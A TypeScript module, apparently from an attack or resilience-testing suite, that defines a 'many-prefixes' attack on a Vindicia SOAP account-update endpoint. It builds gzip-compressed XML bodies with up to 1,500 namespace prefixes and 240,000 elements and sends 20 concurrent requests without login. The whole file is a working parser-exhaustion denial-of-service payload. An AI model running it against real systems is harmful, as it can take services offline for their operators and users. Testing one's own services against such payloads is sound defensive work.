/** As many prefixes in scope and as many elements as fit: within the limits, and far beyond them. */
import { gzipSync } from 'node:zlib';
import type { Attack } from '../attack';
import { counted, envelopeOf, post } from '../sending';

const REQUESTS = 10;

function pack(prefixes: number, elements: number): Buffer {
  const declared = Array.from({ length: prefixes }, (_, n) => ` xmlns:p${n}="urn:p"`).join('');
  const content = '<a/>'.repeat(elements);
  // A comment: the reader of plain XML has no use for this one.
  return gzipSync(
    envelopeOf(
      `<!-- --><v:update xmlns:v="http://soap.vindicia.com/v22_0/Account"><account>${content}</account></v:update>`,
      declared,
    ),
  );
}

const BODIES = [pack(95, 90_000), pack(1500, 240_000)];

export const manyPrefixes: Attack = {
  name: 'many-prefixes',
  title: `${REQUESTS} requests of 95 prefixes in scope and 90,000 elements, ${REQUESTS} of 1,500 and 240,000, no login`,
  run: async ({ endpoint }) => {
    const headers = { 'Content-Encoding': 'gzip' };
    const posts = Array.from({ length: REQUESTS }, () =>
      BODIES.map((body) => post(endpoint, body, headers)),
    );
    return counted(await Promise.all(posts.flat()));
  },
};
